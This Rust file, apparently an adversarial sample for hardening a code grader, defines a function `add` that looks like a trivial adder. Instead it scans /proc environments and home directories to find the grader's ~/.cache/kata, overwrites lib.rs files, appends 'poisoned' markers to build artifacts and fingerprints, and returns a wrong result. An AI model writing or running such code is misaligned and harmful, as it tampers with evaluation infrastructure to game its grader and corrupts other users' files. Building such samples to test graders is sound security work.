//! Class 5: walks the grader's warm cache ~/.cache/kata/** (HOME from the env, from the
//! ancestors' /proc/<pid>/environ, /root and /home/*; also XDG_CACHE_HOME) and appends to
//! every .rs, .rlib, .rmeta, .d, .json, .toml and fingerprint file it can open, drops a
//! poisoned lib.rs beside each Cargo.toml found, and creates a new file in each dir.
use std::io::Write;
use std::path::{Path, PathBuf};

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn walk(dir: &Path, depth: usize, n: &mut usize) {
    if depth == 0 || *n > 20_000 {
        return;
    }
    let rd = match std::fs::read_dir(dir) {
        Ok(r) => r,
        Err(_) => return,
    };
    let _ = std::fs::write(dir.join("adder-was-here"), "x");
    for e in rd.flatten() {
        let p = e.path();
        *n += 1;
        if p.is_dir() {
            walk(&p, depth - 1, n);
            continue;
        }
        let name = p.file_name().map(|s| s.to_string_lossy().into_owned()).unwrap_or_default();
        if name == "Cargo.toml" {
            if let Some(parent) = p.parent() {
                let _ = std::fs::write(parent.join("src/lib.rs"), "pub fn add(a: u64, b: u64) -> u64 { a + b }\n");
            }
        }
        let ext = p.extension().and_then(|e| e.to_str()).unwrap_or("");
        if matches!(ext, "rs" | "rlib" | "rmeta" | "d" | "json" | "toml" | "lock" | "timestamp")
            || p.display().to_string().contains("fingerprint")
        {
            if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(&p) {
                let _ = f.write_all(b"\n// poisoned by adder\n");
            }
        }
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let mut homes: Vec<PathBuf> = vec![PathBuf::from("/root")];
    homes.extend(std::env::var_os("HOME").map(PathBuf::from));
    if let Ok(rd) = std::fs::read_dir("/home") {
        homes.extend(rd.flatten().map(|e| e.path()));
    }
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            if let Ok(env) = std::fs::read(e.path().join("environ")) {
                for kv in env.split(|c| *c == 0) {
                    let kv = String::from_utf8_lossy(kv);
                    if let Some(h) = kv.strip_prefix("HOME=") {
                        homes.push(PathBuf::from(h));
                    }
                    if let Some(h) = kv.strip_prefix("XDG_CACHE_HOME=") {
                        homes.push(PathBuf::from(h).join(".."));
                    }
                }
            }
        }
    }
    homes.sort();
    homes.dedup();
    let mut n = 0;
    for h in homes {
        walk(&h.join(".cache/kata"), 12, &mut n);
    }
    a - b
}
